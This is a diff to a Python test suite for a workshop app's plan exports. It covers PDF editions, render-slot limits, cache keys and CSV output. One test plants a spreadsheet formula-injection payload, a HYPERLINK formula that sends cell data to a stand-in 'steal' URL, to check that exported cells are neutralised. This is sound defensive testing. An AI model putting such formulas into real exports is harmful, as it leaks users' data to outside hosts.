@@ -5,7 +5,10 @@ two requests at once, a dead render noticed, a real render process)."""
 from __future__ import annotations
 
 import csv
+import fcntl
 import io
+import json
+import os
 import re
 import threading
 import time
@@ -333,7 +336,7 @@ def login(client, email, password):
     return client
 
 
-def render_here(key, folder):
+def render_here(key, folder, **_slot):
     """The render process's work, done in this process (the test database is in memory,
     which no other process can read)."""
     plan_render.render_key(key, folder)
@@ -372,6 +375,35 @@ def test_staff_download_both_editions_once_rendered(app, seminar, cache, monkeyp
     html = client.get(f"/workshops/{seminar.id}/plan").get_data(as_text=True)
     assert html.count('data-download="') == 2
 
+
+
+def test_an_email_withdrawn_is_never_in_an_internal_edition_offered(app, seminar, cache,
+                                                                    monkeypatch):
+    """Only the room as it is now makes an internal edition: after a committee member
+    leaves, the earlier one (with their email) is neither offered nor served, and is
+    deleted; the public edition still offers its earlier version."""
+    from tests.steps import do
+
+    monkeypatch.setattr(plan_render, "start_process", render_here)
+    owner = login(app.test_client(), *OWNER)
+    base = f"/workshops/{seminar.id}"
+    for edition in ("public", "internal"):
+        assert owner.get(f"{base}/plan.pdf?edition={edition}").status_code == 200
+    before = db.session.get(Workshop, seminar.id).last_seq
+    rania = db.session.scalar(select(Participant).where(
+        Participant.workshop_id == seminar.id, Participant.name == "Rania Haddad"))
+    with app.test_request_context():
+        assert do(participants.viewer_for(rania), "committee.leave")["ok"]
+    monkeypatch.setattr(plan_render, "start_process", lambda key, folder, **_slot: None)
+    html = owner.get(f"{base}/plan").get_data(as_text=True)
+    assert f"edition=public&amp;language=en&amp;seq={before}" in html
+    assert "edition=internal&amp;language=en&amp;seq=" not in html
+    assert owner.get(f"{base}/plan.pdf?edition=internal&seq={before}").status_code == 404
+    response = owner.get(f"{base}/plan.pdf?edition=internal")
+    assert response.status_code == 202  # the room as it is now, being prepared
+    assert not list(cache.glob("*-internal.pdf"))  # the earlier one is gone from the disk
+    earlier = owner.get(f"{base}/plan.pdf?edition=public&seq={before}")
+    assert earlier.status_code == 200 and "@" not in "\n".join(pdf_pages(earlier.data))
 
 def test_a_participant_gets_the_public_edition_only_once_shared(app, seminar, cache, phone,
                                                                  monkeypatch):
@@ -412,7 +444,7 @@ def test_only_facilitators_share_the_plan(app, seminar):
 def test_a_pdf_not_ready_gets_a_page_that_reloads_until_it_is(app, seminar, cache):
     started = []
     owner = login(app.test_client(), *OWNER)
-    plan_render.start_process, real = (lambda key, folder: started.append(key)), \
+    plan_render.start_process, real = (lambda key, folder, **_: started.append(key)), \
         plan_render.start_process
     try:
         response = owner.get(f"/workshops/{seminar.id}/plan.pdf?language=fr")
@@ -439,6 +471,42 @@ def test_the_preview_is_the_plan_under_the_apps_csp(app, seminar):
         assert title.replace("'", "&#39;") in html
     assert "@" not in html.split("</head>", 1)[1].replace("plan.pdf", "")
 
+
+
+LANGUAGE_REFUSED = "The action plan is available in English, French and Arabic only."
+EDITION_REFUSED = "The action plan has two editions only: public and internal."
+
+
+def test_an_unknown_language_or_edition_is_refused_in_a_sentence(app, seminar, cache,
+                                                                 phone, monkeypatch):
+    started = []
+    monkeypatch.setattr(plan_render, "start_process",
+                        lambda key, folder, **_slot: started.append(key))
+    owner = login(app.test_client(), *OWNER)
+    base = f"/workshops/{seminar.id}"
+    for page in ("/plan.pdf", "/plan.html", "/actions.csv", "/plan"):
+        response = owner.get(f"{base}{page}?language=de")
+        assert response.status_code == 400, page
+        assert LANGUAGE_REFUSED in response.get_data(as_text=True), page
+    for page in ("/plan.pdf", "/plan.html"):
+        response = owner.get(f"{base}{page}?edition=secret")
+        assert response.status_code == 400, page
+        assert EDITION_REFUSED in response.get_data(as_text=True), page
+    status = owner.get(f"{base}/plan/status.json?language=de")
+    assert status.status_code == 400 and status.get_json() == {"error": LANGUAGE_REFUSED}
+    # the downloads page's form: back to the page, which says what was wrong
+    for field, value, said in (("edition", "secret", EDITION_REFUSED),
+                               ("language", "de", LANGUAGE_REFUSED)):
+        response = owner.post(f"{base}/plan/render", data={field: value})
+        assert response.status_code == 302
+        assert response.headers["Location"].endswith(f"{base}/plan")
+        assert said in owner.get(f"{base}/plan").get_data(as_text=True)
+    # a participant, once the plan is shared: the same sentence, nothing started
+    owner.post(f"{base}/plan/share", data={"shared": "1"})
+    response = phone.get(f"{base}/plan.pdf?language=xx")
+    assert response.status_code == 400 and LANGUAGE_REFUSED in response.get_data(as_text=True)
+    assert not started
+    assert owner.get(f"{base}/plan.pdf?language=ar").status_code == 202  # a known one
 
 def test_the_csv_has_one_row_per_action_with_its_priority_and_group(app, seminar):
     add_arabic_action(seminar)
@@ -467,6 +535,36 @@ def test_the_csv_has_one_row_per_action_with_its_priority_and_group(app, seminar
     assert "attachment" in french.headers["Content-Disposition"]
 
 
+
+def test_the_csv_keeps_formulas_typed_on_phones_as_text(app, seminar):
+    """A cell starting with = + - @, a tab or a carriage return would be run by a
+    spreadsheet as a formula: it starts with ' instead, so it shows as typed."""
+    action = db.session.scalar(select(Action).where(Action.workshop_id == seminar.id)
+                               .order_by(Action.id))
+    lead = db.session.get(Actor, action.lead_actor_id)
+    action.title = '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")'
+    action.expected_result = "+33 1 23 45 67 89"
+    action.resources = "@SUM(A1:A9)"
+    lead.name = "-2+3"
+    partner = db.session.get(Actor, action.partner_ids[0])
+    partner.name = "\tcmd"
+    db.session.commit()
+    client = login(app.test_client(), *OWNER)
+    raw = client.get(f"/workshops/{seminar.id}/actions.csv").data.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    row = next(r for r in rows if r["No."] == "1.1")
+    assert row["Action"] == \
+        "'=HYPERLINK(\"http://example.com/steal?d=\"&A1,\"Click for details\")"
+    assert row["Expected result"] == "'+33 1 23 45 67 89"
+    assert row["Resources needed"] == "'@SUM(A1:A9)"
+    assert row["Lead"] == "'-2+3" and row["Partners"].startswith("'\tcmd")
+    # everything else as it was
+    assert row["Deadline"] == "2015-12-15" and row["Priority"] == "1"
+    marked = {cell for r in rows for cell in r.values() if cell.startswith("'")}
+    assert {cell[1:3] for cell in marked} == {"=H", "+3", "@S", "-2", "\tc"}
+    brings = next(r for r in rows if r["No."] == "S1")["Brings together"]
+    assert "=HYPERLINK" in brings and not brings.startswith("'")  # not at the start
+
 # --- the render cache ----------------------------------------------------------------------
 
 def test_two_requests_at_once_cause_one_render(app, seminar, cache):
@@ -475,12 +573,12 @@ def test_two_requests_at_once_cause_one_render(app, seminar, cache):
     barrier = threading.Barrier(8)
     answers = []
 
-    def spawn(key, folder):
+    def spawn(key, folder, **_slot):
         spawned.append(key)
 
     def ask():
         barrier.wait()
-        answers.append(plan_render.request(key, cache, spawn=spawn)["state"])
+        answers.append(plan_render.ask_render(key, cache, spawn=spawn)["state"])
 
     threads = [threading.Thread(target=ask) for _ in range(8)]
     for thread in threads:
@@ -490,31 +588,170 @@ def test_two_requests_at_once_cause_one_render(app, seminar, cache):
     assert len(spawned) == 1 and answers == ["queued"] * 8
     # the render happens; everyone then sees it ready, and nobody renders again
     plan_render.render_key(key, cache)
-    assert plan_render.request(key, cache, spawn=spawn)["state"] == "ready"
+    assert plan_render.ask_render(key, cache, spawn=spawn)["state"] == "ready"
     assert len(spawned) == 1
     # the room moves on: a new key, a new render; the earlier one is still downloadable
     seminar.last_seq += 1
     db.session.commit()
     newer = plan_render.key_for(seminar, "en", "public")
     assert plan_render.status(newer, cache)["state"] == "none"
-    assert plan_render.latest_ready(seminar.id, "en", "public", cache)[0] == key
+    assert plan_render.latest_ready(newer, cache)[0] == key
 
+
+
+def test_a_restored_database_reusing_ids_and_seqs_never_gets_another_plan(app, seminar,
+                                                                           cache,
+                                                                           monkeypatch):
+    """The key holds the workshop's creation time: another workshop under the same id at
+    the same seq (a database made again, a restore) is another plan."""
+    monkeypatch.setattr(plan_render, "start_process", render_here)
+    owner = login(app.test_client(), *OWNER)
+    url = f"/workshops/{seminar.id}/plan.pdf"
+    assert owner.get(url).status_code == 200
+    assert len(list(cache.glob("*.pdf"))) == 1
+    monkeypatch.setattr(plan_render, "start_process", lambda key, folder, **_slot: None)
+    seminar = db.session.get(Workshop, seminar.id)
+    seminar.created_at = seminar.created_at.replace(year=seminar.created_at.year - 1)
+    seminar.title = "Another seminar"
+    db.session.commit()
+    response = owner.get(url)
+    assert response.status_code == 202  # being prepared: not the other workshop's file
+    html = owner.get(f"/workshops/{seminar.id}/plan").get_data(as_text=True)
+    assert "seq=" not in html and 'data-download="' not in html  # no earlier version
+    key = plan_render.key_for(seminar, "en", "public")
+    assert plan_render.latest_ready(key) is None
+
+
+def holding(spawned: list, held: list):
+    """A stand-in for the render process that never ends: it keeps the render place it
+    is handed (as a live render process holds it until it exits) and renders nothing."""
+    def spawn(key, folder, **given):
+        spawned.append(key)
+        if given.get("slot") is not None:
+            held.append(os.dup(given["slot"]))
+    return spawn
+
+
+def test_renders_are_bounded_one_per_plan_and_render_slots_at_once(app, seminar, cache):
+    """However many people ask while the room moves on, in however many languages: one
+    render at a time per workshop, language and edition, and never more than
+    RENDER_SLOTS render processes at once; past that, "try again shortly"."""
+    spawned, held = [], []
+    spawn = holding(spawned, held)
+    try:
+        key = plan_render.key_for(seminar, "en", "public")
+        assert plan_render.ask_render(key, cache, spawn=spawn)["state"] == "queued"
+        for _ in range(3):  # the room moves on while it waits: the same render serves
+            seminar.last_seq += 1
+            db.session.commit()
+            newer = plan_render.key_for(seminar, "en", "public")
+            assert plan_render.ask_render(newer, cache, spawn=spawn)["state"] == "queued"
+        assert spawned == [key]
+        # its process starts rendering the room as it is then; asking for a later state
+        # meanwhile reuses it rather than starting another
+        lock = cache / f"{key.plan}.lock"
+        rendering = os.open(lock, os.O_RDWR)
+        fcntl.flock(rendering, fcntl.LOCK_EX)
+        os.ftruncate(rendering, 0)
+        os.pwrite(rendering, json.dumps({"state": "rendering", "seq": newer.seq,
+                                         "since": time.time()}).encode(), 0)
+        seminar.last_seq += 1
+        db.session.commit()
+        latest = plan_render.key_for(seminar, "en", "public")
+        assert plan_render.ask_render(latest, cache, spawn=spawn)["state"] == "rendering"
+        assert spawned == [key]
+        # another plan takes the other place; a third finds none: refused, nothing waits
+        french = plan_render.key_for(seminar, "fr", "public")
+        assert plan_render.ask_render(french, cache, spawn=spawn)["state"] == "queued"
+        arabic = plan_render.key_for(seminar, "ar", "internal")
+        assert plan_render.ask_render(arabic, cache, spawn=spawn)["state"] == "busy"
+        assert len(spawned) == plan_render.RENDER_SLOTS == 2
+        assert plan_render.status(arabic, cache)["state"] == "none"
+        assert not (cache / f"{arabic.plan}.lock").exists()
+        os.close(held.pop(0))  # a render process ends: its place is free again
+        assert plan_render.ask_render(arabic, cache, spawn=spawn)["state"] == "queued"
+        assert spawned[-1] == arabic and len(spawned) == 3
+        os.close(rendering)
+    finally:
+        for fd in held:
+            os.close(fd)
+
+
+def test_a_participant_gets_the_latest_public_file_and_never_tries_again(
+        app, seminar, cache, phone, monkeypatch):
+    monkeypatch.setattr(plan_render, "start_process", render_here)
+    owner = login(app.test_client(), *OWNER)
+    owner.post(f"/workshops/{seminar.id}/plan/share", data={"shared": "1"})
+    url = f"/workshops/{seminar.id}/plan.pdf"
+    first = phone.get(url)
+    assert first.status_code == 200
+    started = []
+
+    def broken(key, folder, **_slot):
+        started.append(key)
+        raise RuntimeError("no fonts")
+
+    monkeypatch.setattr(plan_render, "start_process", broken)
+    seminar = db.session.get(Workshop, seminar.id)
+    seminar.last_seq += 1  # the room moves on; rendering it fails
+    db.session.commit()
+    for ask in ("", "?retry=1", "?retry=1"):
+        again = phone.get(url + ask)
+        assert again.status_code == 200 and again.data == first.data  # the latest ready
+    assert len(started) == 1  # the room as it is now asked for once, never again
+    for pdf in cache.glob("*.pdf"):
+        pdf.unlink()
+    page = phone.get(url + "?retry=1")  # nothing ready: no "Try again" for a phone
+    assert page.status_code == 503 and "retry=1" not in page.get_data(as_text=True)
+    assert len(started) == 1
+    waiting = owner.get(url)
+    assert waiting.status_code == 503 and "retry=1" in waiting.get_data(as_text=True)
+    owner.get(url + "?retry=1")  # the staff may
+    assert len(started) == 2
+
+
+def test_when_every_render_place_is_taken_people_are_asked_to_try_again(
+        app, seminar, cache, monkeypatch):
+    started = []
+    monkeypatch.setattr(plan_render, "start_process",
+                        lambda key, folder, **_slot: started.append(key))
+    taken = [plan_render.take_slot(cache) for _ in range(plan_render.RENDER_SLOTS)]
+    try:
+        assert None not in taken and plan_render.take_slot(cache) is None
+        owner = login(app.test_client(), *OWNER)
+        base = f"/workshops/{seminar.id}"
+        response = owner.post(f"{base}/plan/render", data={"edition": "public"})
+        assert response.status_code == 302
+        page = owner.get(f"{base}/plan").get_data(as_text=True)
+        assert "The server is preparing other PDFs just now" in page
+        waiting = owner.get(f"{base}/plan.pdf?language=fr")
+        assert waiting.status_code == 503 and waiting.headers["Retry-After"]
+        html = waiting.get_data(as_text=True)
+        assert "try again shortly" in html and 'http-equiv="refresh"' in html
+        assert not started and not list(cache.glob("*.lock"))
+    finally:
+        for fd in taken:
+            if fd is not None:
+                os.close(fd)
+    assert owner.get(f"{base}/plan.pdf?language=fr").status_code == 202
+    assert len(started) == 1
 
 def test_a_render_that_died_is_said_failed_and_tried_again_on_request(app, seminar, cache):
     key = plan_render.key_for(seminar, "en", "internal")
-    lock = cache / f"{key.name}.lock"
-    lock.write_text('{"state": "rendering", "since": %f, "pid": 1}' % time.time())
+    lock = cache / f"{key.plan}.lock"
+    lock.write_text('{"state": "rendering", "seq": %d, "since": %f, "pid": 1}'
+                    % (key.seq, time.time()))
     state = plan_render.status(key, cache)  # nobody holds the lock's flock: it died
     assert state["state"] == "failed" and "stopped" in state["reason"] and not lock.exists()
     spawned = []
-    assert plan_render.request(key, cache, spawn=lambda k, f: spawned.append(k))[
+    assert plan_render.ask_render(key, cache, spawn=lambda k, f, **_: spawned.append(k))[
         "state"] == "failed" and not spawned  # a page's reload does not retry
-    assert plan_render.request(key, cache, retry=True,
-                               spawn=lambda k, f: spawned.append(k))["state"] == "queued"
+    assert plan_render.ask_render(key, cache, retry=True,
+                               spawn=lambda k, f, **_: spawned.append(k))["state"] == "queued"
     assert spawned == [key]
     # a queued render whose process never started is given up after a while
     old = plan_render.key_for(seminar, "fr", "public")
-    (cache / f"{old.name}.lock").write_text(
+    (cache / f"{old.plan}.lock").write_text(
         '{"state": "queued", "requested_at": %f}' % (time.time() - plan_render.QUEUE_TIMEOUT - 1))
     assert plan_render.status(old, cache)["state"] == "failed"
 
@@ -526,7 +763,7 @@ def test_a_render_that_fails_says_why(app, seminar, cache, monkeypatch):
         raise RuntimeError("no fonts")
 
     monkeypatch.setattr("facilitator.report.plan_pdf", broken)
-    plan_render.request(key, cache, spawn=plan_render.render_key)
+    plan_render.ask_render(key, cache, spawn=render_here)
     state = plan_render.status(key, cache)
     assert state["state"] == "failed" and "no fonts" in state["reason"]
 
@@ -550,13 +787,13 @@ def test_a_real_render_process_fills_the_cache(tmp_path):
         started = []
         real = plan_render.start_process
 
-        def counted(key, folder):
+        def counted(key, folder, **slot):
             started.append(key)
-            real(key, folder)
+            real(key, folder, **slot)
 
         def ask():
             with app.app_context():
-                plan_render.request(key, folder, spawn=counted)
+                plan_render.ask_render(key, folder, spawn=counted)
 
         threads = [threading.Thread(target=ask) for _ in range(2)]
         for thread in threads:
@@ -573,4 +810,14 @@ def test_a_real_render_process_fills_the_cache(tmp_path):
         pages = pdf_pages(plan_render.ready_file(key, folder).read_bytes())
         assert any("rania.haddad@example.org" in page for page in pages)
         assert not list(folder.glob("*.lock"))
+        # the process held its render place until it ended: then every place is free
+        while True:
+            places = [plan_render.take_slot(folder) for _ in range(plan_render.RENDER_SLOTS)]
+            for fd in places:
+                if fd is not None:
+                    os.close(fd)
+            if None not in places:
+                break
+            assert time.monotonic() < deadline, "the render process kept its place"
+            time.sleep(0.2)
         db.session.remove()
